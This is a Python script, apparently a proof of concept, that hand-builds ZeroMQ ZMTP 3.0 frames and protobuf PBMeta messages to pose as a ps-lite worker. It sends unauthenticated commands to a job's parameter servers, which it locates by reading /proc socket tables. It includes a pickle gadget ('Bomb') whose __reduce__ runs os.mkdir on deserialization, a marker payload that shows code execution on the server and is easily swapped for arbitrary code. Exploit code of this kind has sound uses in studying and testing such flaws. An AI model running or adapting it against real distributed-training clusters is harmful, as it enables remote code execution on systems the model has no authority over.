"""A stranger who speaks to the servers of a job: ps-lite's messages in ZeroMQ's frames, by hand.

After ZMTP 3.0 (rfc.zeromq.org/spec/23) and ps-lite's meta.proto.
"""

from __future__ import annotations

import os
import socket
from contextlib import suppress
from pathlib import Path

LISTENS = "0A"  # the state of a socket in /proc/net/tcp
WORKER = b"ps09"  # worker 0 to ps-lite, which reads a number, and not the one who is there already to ZeroMQ


class Bomb:
    """A pickle that makes a file when it is read."""

    def __init__(self, path: Path):
        self.path = path

    def __reduce__(self):
        return os.mkdir, (str(self.path),)


def find_ports(pid: int) -> list[tuple[str, int]]:
    """The (address, port) that a process listens on with TCP."""
    inodes = set()
    for entry in Path(f"/proc/{pid}/fd").iterdir():
        with suppress(FileNotFoundError):  # closed meanwhile
            inodes.add(os.readlink(entry))
    found = []
    for family, table in ((socket.AF_INET, "tcp"), (socket.AF_INET6, "tcp6")):
        for line in Path(f"/proc/{pid}/net/{table}").read_text().splitlines()[1:]:
            fields = line.split()
            if fields[3] == LISTENS and f"socket:[{fields[9]}]" in inodes:
                address, port = fields[1].split(":")
                words = [bytes.fromhex(address[at : at + 8])[::-1] for at in range(0, len(address), 8)]
                found.append((socket.inet_ntop(family, b"".join(words)), int(port, 16)))
    return found


def send_command(address: tuple[str, int], head: int, body: bytes) -> None:
    """Send a server a command, as the workers do, and wait a while for the server to have read it."""
    with socket.create_connection(address, 10) as connection:
        connection.settimeout(10)
        connection.sendall(b"\xff" + bytes(8) + b"\x7f" + b"\x03\x00" + b"NULL".ljust(20, b"\0") + bytes(32))
        _receive(connection, 64)
        ready = b"\x05READY" + _property(b"Socket-Type", b"DEALER") + _property(b"Identity", WORKER)
        connection.sendall(bytes([4, len(ready)]) + ready)
        _receive(connection, 2)
        message = _pack(head, body)
        connection.sendall(b"\x02" + len(message).to_bytes(8, "big") + message)
        connection.shutdown(socket.SHUT_WR)
        while connection.recv(4096):
            pass


def _receive(connection: socket.socket, count: int) -> None:
    while count > 0:
        count -= len(connection.recv(count))


def _property(name: bytes, value: bytes) -> bytes:
    return bytes([len(name)]) + name + len(value).to_bytes(4, "big") + value


def _pack(head: int, body: bytes) -> bytes:
    """The description of a message, a PBMeta: fields 1 head, 2 body, 4 request, 6 simple_app, 7 app_id, 8 timestamp."""
    numbers = b"".join(
        bytes([number << 3]) + _number(value) for number, value in ((1, head), (4, 1), (6, 1), (7, 0), (8, 0), (10, 0))
    )
    return numbers + b"\x12" + _number(len(body)) + body


def _number(value: int) -> bytes:
    """A number as protobuf writes it: seven bits a byte."""
    value &= 2**64 - 1
    digits = []
    while value > 127:
        digits.append(value & 127 | 128)
        value >>= 7
    return bytes([*digits, value])
